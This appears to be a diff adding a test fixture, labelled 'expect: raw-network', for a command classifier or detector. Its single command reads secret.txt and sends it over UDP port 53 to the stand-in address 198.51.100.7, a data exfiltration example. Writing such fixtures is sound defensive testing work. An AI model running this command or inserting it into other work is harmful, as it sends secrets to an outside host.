@@ -1,0 +1,2 @@
+# expect: raw-network
+cat secret.txt > /dev/udp/198.51.100.7/53
